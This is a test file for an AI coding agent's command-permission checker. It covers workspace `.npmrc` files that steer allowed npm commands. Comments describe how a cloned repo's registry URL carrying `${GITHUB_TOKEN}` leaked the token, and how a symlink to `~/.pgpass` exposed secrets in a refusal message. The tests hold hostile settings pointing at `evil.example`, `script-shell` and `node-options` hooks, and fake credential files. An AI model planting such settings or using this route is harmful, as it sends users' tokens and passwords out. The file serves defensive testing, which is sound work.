// Pass 29, F9 (high): a clone's `.npmrc` steered npm's narrow verbs. `registry=http://host/${GITHUB_TOKEN}/`
// made `npm view lodash version` under `Bash(npm view:*)` print the token and send it to the
// host; `logs-dir=` wrote outside. A rule naming a package runner now covers a workspace `.npmrc`
// (or one above it, your own ~/.npmrc aside) only when every setting only shapes saving and output.
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, describe, it } from 'node:test';
import { BashChecker } from '../../src/permissions/bash/checker';
import { Permissions } from '../../src/permissions/permissions';
import { bashTool, tempDir } from './support';

const checker = new BashChecker();
before(() => checker.ready());

function repo(npmrc: string | undefined, at = '.') {
  const root = tempDir('npmrc');
  // The workspace inside the home folder, as most are: the walk up meets your own ~/.npmrc.
  const home = join(root, 'home');
  const ws = join(home, 'proj', 'ws');
  mkdirSync(ws, { recursive: true });
  writeFileSync(join(ws, 'package.json'), '{"name":"x","dependencies":{"lodash":"1"}}');
  if (npmrc !== undefined) writeFileSync(join(ws, at, '.npmrc'), npmrc);
  writeFileSync(join(home, '.npmrc'), 'registry=https://my.own.registry/\n//my.own.registry/:_authToken=${NPM_TOKEN}\n');
  const p = new Permissions({ cwd: ws, home, rules: () => ({ allow: ['Bash(npm view:*)', 'Bash(npm outdated:*)', 'Bash(npm config get:*)', 'Bash(npx tsc --noEmit:*)', 'Bash(npm test:*)'], ask: [], deny: [] }), trusted: () => true, bash: checker });
  return (c: string) => p.decide({ tool: bashTool, input: { command: c } }).behavior;
}

describe('pass 29 F9: a workspace .npmrc that steers npm', () => {
  it('asks for settings that connect, run, write or read the environment', () => {
    for (const text of ['registry=http://127.0.0.1:9/${GITHUB_TOKEN}/', 'registry=https://evil.example/', '//evil/:_authToken=x', 'logs-dir=/tmp/x', 'script-shell=./evil', 'node-options=--require ./x.js', 'proxy=http://evil:8080', 'save-exact=${HOME}']) {
      const d = repo(text);
      for (const c of ['npm view lodash version', 'npm outdated', 'npm config get registry', 'npm test']) assert.equal(d(c), 'ask', `${c} with ${text}`);
    }
    assert.equal(repo('registry=https://evil.example/', '..')('npm view lodash version'), 'ask', 'a .npmrc in a folder above the workspace');
  });

  it('a harmless .npmrc, none at all, and your own ~/.npmrc still run', () => {
    for (const text of [undefined, 'save-exact=true\nengine-strict=true\n# comment\nfund=false\n']) {
      const d = repo(text);
      for (const c of ['npm view lodash version', 'npm outdated', 'npm test']) assert.equal(d(c), 'allow', `${c} with ${text}`);
    }
  });
});

// Pass 52 C1 (critical): a clone's `.npmrc -> ~/.pgpass` was read, and its first line quoted to the
// model in the refusal of `npm test`. A settings file of the workspace leading elsewhere is not read,
// and no refusal quotes a settings file's text.
describe('pass 52 C1: a settings file linked out of the workspace', () => {
  it('asks without reading it, and no reason quotes what a settings file holds', () => {
    const root = tempDir('npmrc-link');
    const home = join(root, 'home');
    const ws = join(root, 'ws');
    mkdirSync(home, { recursive: true });
    mkdirSync(ws);
    writeFileSync(join(home, '.pgpass'), 'db.example.com:5432:prod:admin:TOPSECRET-PG\n');
    writeFileSync(join(home, '.git-credentials'), 'https://alice:ghp_TOPSECRET@github.com\n');
    writeFileSync(join(ws, 'package.json'), '{"name":"x"}');
    writeFileSync(join(ws, 'Cargo.toml'), '[package]\nname="x"\n');
    symlinkSync('../home/.pgpass', join(ws, '.npmrc'));
    symlinkSync('../home/.git-credentials', join(ws, 'rust-toolchain'));
    for (const trusted of [true, false]) {
      const p = new Permissions({ cwd: ws, home, rules: () => ({ allow: ['Bash(npm test:*)', 'Bash(npx prettier:*)', 'Bash(cargo build:*)'], ask: [], deny: [] }), trusted: () => trusted, headless: true, bash: checker });
      for (const command of ['npm test', 'npx prettier --check .', 'cargo build']) {
        const v = p.decide({ tool: bashTool, input: { command } });
        assert.notEqual(v.behavior, 'allow', `${command}: ${v.reason}`);
        assert.doesNotMatch(v.reason ?? '', /TOPSECRET|db\.example|alice/, `${command}: ${v.reason}`);
      }
    }
    // Inside the workspace too, the reason names the file, not its text.
    const d = repo('TOPSECRET-IN-WS=1\n');
    const inside = tempDir('npmrc-in');
    mkdirSync(inside, { recursive: true });
    writeFileSync(join(inside, '.npmrc'), 'ghp_TOPSECRET_LINE\n');
    const p = new Permissions({ cwd: inside, home: join(inside, 'nohome'), rules: () => ({ allow: ['Bash(npm test:*)'], ask: [], deny: [] }), trusted: () => true, bash: checker });
    const v = p.decide({ tool: bashTool, input: { command: 'npm test' } });
    assert.equal(v.behavior, 'ask');
    assert.doesNotMatch(v.reason ?? '', /TOPSECRET/, v.reason);
    assert.equal(d('npm test'), 'ask');
  });
});
